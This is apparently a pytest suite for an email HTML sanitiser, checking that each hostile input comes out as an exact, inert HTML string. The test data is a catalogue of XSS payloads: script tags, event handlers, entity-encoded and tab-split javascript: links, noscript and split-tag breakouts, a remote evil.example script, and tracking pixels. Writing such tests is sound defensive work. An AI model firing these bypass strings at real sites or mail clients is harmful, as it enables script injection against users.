"""The email HTML sanitiser (``starter.api.sanitize``): hostile input in, inert HTML out.

Each hostile case states the exact output, and every output is parsed again to
check what must hold whatever the input: only allowlisted tags, no event
handler, no style, links only to http(s) or mailto, images only inline rasters.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from starter.api.sanitize import sanitize_email_html, url_scheme

SAFE_TAGS = frozenset(
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del "
    "dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small "
    "span strike strong sub sup table tbody td tfoot th thead tr tt u ul var".split()
)
REL = 'rel="noopener noreferrer nofollow"'


class _Tags(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(cleaned: str) -> None:
    parser = _Tags()
    parser.feed(cleaned)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in SAFE_TAGS, (tag, cleaned)
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in {"style", "srcset", "background"}, (
                name,
                cleaned,
            )
            if name == "href":
                assert url_scheme(value or "") in {"http", "https", "mailto"}, cleaned
            if name == "src":
                assert (value or "").startswith("data:image/"), cleaned


SCRIPTS = [
    ("script", "<script>alert(1)</script>", ""),
    ("script upper case", "<SCRIPT>alert(1)</SCRIPT>", ""),
    ("script remote", "<script src=//evil.example/x.js></script>", ""),
    ("script self-closing", "<script/>after", "after"),
    ("script end tag with space", "<script>a</script >after", "after"),
    ("script split by a tag", "<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ("script in comment trick", "<script><!--</script><script>alert(1)//--></script>after", "after"),
    ("script in svg", "<svg><script>alert(1)</script></svg>", ""),
    ("svg onload", "<svg/onload=alert(1)>", ""),
    ("math", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ""),
    ("template", "<template><script>alert(1)</script></template>after", "after"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""),
    ("object and embed", "<object data=x></object><embed src=x>", ""),
    ("noscript breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""),
    ("textarea raw text", "<textarea><script>alert(1)</script></textarea>after", "after"),
    ("title raw text", "<title><script>alert(1)</script></title>after", "after"),
    ("select", "<select><option><script>alert(1)</script></option></select>after", "after"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>after", "after"),
    ("plaintext", "<plaintext><script>alert(1)", ""),
    ("comment", "<!-- <script>alert(1)</script> -->ok", "ok"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", ""),
    ("deep inside divs", "<div><div><script>x</script></div></div>", "<div><div></div></div>"),
]
HANDLERS = [
    ("onclick", "<p onclick=alert(1)>hi</p>", "<p>hi</p>"),
    ("handler upper case", "<p ONMOUSEOVER='x'>hi</p>", "<p>hi</p>"),
    (
        "img onerror",
        '<img src="data:image/png;base64,iVBOR" onerror=alert(1)>',
        '<img src="data:image/png;base64,iVBOR">',
    ),
    (
        "handler inside a quoted value",
        '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
        '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
    ),
    ("form and inputs", "<form action=https://evil.example><input name=p><button>go</button></form>", "go"),
]
LINKS = [
    ("javascript", '<a href="javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript with a tab", '<a href=" java\tscript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript after a control character", '<a href="\x01javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript as decimal entities", '<a href="&#106;avascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript as hex entities", '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("javascript with a named colon", '<a href="javascript&colon;alert(1)">x</a>', f"<a {REL}>x</a>"),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', f"<a {REL}>x</a>"),
    ("data html", '<a href="data:text/html,<script>alert(1)</script>">x</a>', f"<a {REL}>x</a>"),
    (
        "target dropped",
        '<a href="https://ok.example" target=_blank>x</a>',
        f'<a href="https://ok.example" {REL}>x</a>',
    ),
    ("mailto kept", '<a href="mailto:a@b.example">x</a>', f'<a href="mailto:a@b.example" {REL}>x</a>'),
    ("base", '<base href="javascript:alert(1)//">', ""),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ""),
]
REMOTE_AND_CSS = [
    ("remote image", '<img src="https://tracker.example/p.gif">', "<img>"),
    ("srcset", '<img srcset="https://t.example/p.gif 1x">', "<img>"),
    ("svg data image", '<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>"),
    (
        "table background",
        '<table background="https://t.example/bg.gif"><tr><td>x</td></tr></table>',
        "<table><tr><td>x</td></tr></table>",
    ),
    ("style element", "<style>body{background:url(https://t.example)}</style><p>x</p>", "<p>x</p>"),
    ("style attribute", '<p style="color:red">x</p>', "<p>x</p>"),
    ("stylesheet link", "<link rel=stylesheet href=https://evil.example/x.css>", ""),
    ("remote iframe", '<iframe src="https://evil.example"></iframe>', ""),
]
ENTITIES_AND_NESTING = [
    (
        "escaped script stays text",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    ("numeric entities stay text", "&#60;script&#62;", "&lt;script&gt;"),
    ("bare angle brackets", "x < y > z & w", "x &lt; y &gt; z &amp; w"),
    (
        "quote in a kept attribute",
        '<img src="data:image/png;base64,AAAA" alt="a&quot;b">',
        '<img src="data:image/png;base64,AAAA" alt="a&quot;b">',
    ),
    ("unclosed tags closed", "<b><i>unclosed", "<b><i>unclosed</i></b>"),
    ("misnested tags", "<p><b>x</p>y</b>", "<p><b>x</b></p>y"),
    ("unknown tags dropped, text kept", "<blink><custom-el>hi</custom-el></blink>", "hi"),
]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(source, expected, id=name)
        for name, source, expected in SCRIPTS + HANDLERS + LINKS + REMOTE_AND_CSS + ENTITIES_AND_NESTING
    ],
)
def test_hostile_input_comes_out_inert(source: str, expected: str):
    cleaned = sanitize_email_html(source)
    assert cleaned == expected
    assert_inert(cleaned)


@pytest.mark.parametrize(
    "payload",
    [
        "<script>window.__pwned=1;alert(1)</script>",
        '<img src=x onerror="window.__pwned=1">',
        '<a href="javascript:window.__pwned=1">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<img src="https://tracker.example/p.gif">',
        "<svg><script>alert(1)</script></svg>",
        '<iframe src="https://evil.example"></iframe>',
        '<div style="background:url(https://t.example)" onclick="x()">x</div>',
        "<scr<script>ipt>alert(1)</script>",
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
)
def test_sanitiser_removes_active_and_remote_content(payload):
    cleaned = sanitize_email_html(f"<p>Hello</p>{payload}<b>bye</b>").lower()
    for needle in (
        "<script",
        "onerror",
        "onclick",
        "javascript",
        "<iframe",
        "<svg",
        "<base",
        "<meta",
        "style=",
        "https://t",
    ):
        assert needle not in cleaned, (needle, cleaned)
    assert "src=" not in cleaned or 'src="data:' in cleaned
    assert cleaned.startswith("<p>hello</p>") and cleaned.endswith("<b>bye</b>")
    assert_inert(cleaned)


def test_sanitiser_keeps_ordinary_mail_markup():
    source = '<table border="1"><tr><td colspan="2">A &amp; B</td></tr></table><a href="https://ok.example/x?a=1&amp;b=2">link</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"><ul><li>one<li>two</ul>'
    cleaned = sanitize_email_html(source)
    assert '<td colspan="2">A &amp; B</td>' in cleaned
    assert '<a href="https://ok.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">link</a>' in cleaned
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("https://ok.example", "https"),
        (" java\tscript:alert(1)", "javascript"),
        ("\x00JAVASCRIPT:x", "javascript"),
        ("mailto:a@b.example", "mailto"),
        ("/relative", ""),
        ("//host.example/x", ""),
    ],
)
def test_url_scheme_is_what_a_browser_sees(url: str, scheme: str):
    assert url_scheme(url) == scheme
